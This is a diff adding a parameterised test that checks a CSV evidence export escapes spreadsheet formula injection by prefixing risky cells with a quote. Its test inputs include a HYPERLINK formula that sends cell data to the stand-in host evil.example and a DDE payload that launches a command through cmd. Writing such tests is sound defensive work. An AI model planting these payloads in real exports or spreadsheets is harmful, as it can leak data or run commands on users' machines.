@@ -87,6 +87,25 @@ it('a text that a spreadsheet would compute is kept from it, and stays what it i
   ]);
 });
 
+it.each([
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(A1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\uFF1D1+1',
+  '\uFF0B1+1',
+  '\uFF0D1+1',
+  '\uFF20SUM(A1)',
+  `=HYPERLINK("https://evil.example/?"&A1,"x")`,
+  `=cmd|' /C calc'!A0`,
+])('%j is a text for a spreadsheet', async (text) => {
+  await rows(api.database, `UPDATE evidence SET reason = $1 WHERE record_quote = '@cmd'`, [text]);
+  const { data } = await read(`/api/v1/claims/${ids.claim}/evidence.csv?stance=denies`);
+  expect(data.map(({ reason }) => reason)).toEqual([`'${text}`]);
+});
+
 it('evidence comes as a table, too', async () => {
   const { data } = await read(`/api/v1/claims/${ids.claim}/evidence.csv`);
   expect(data.map(({ quote }) => quote)).toEqual(['At least seven people were hurt', 'Injured: 7', "'@cmd"]);
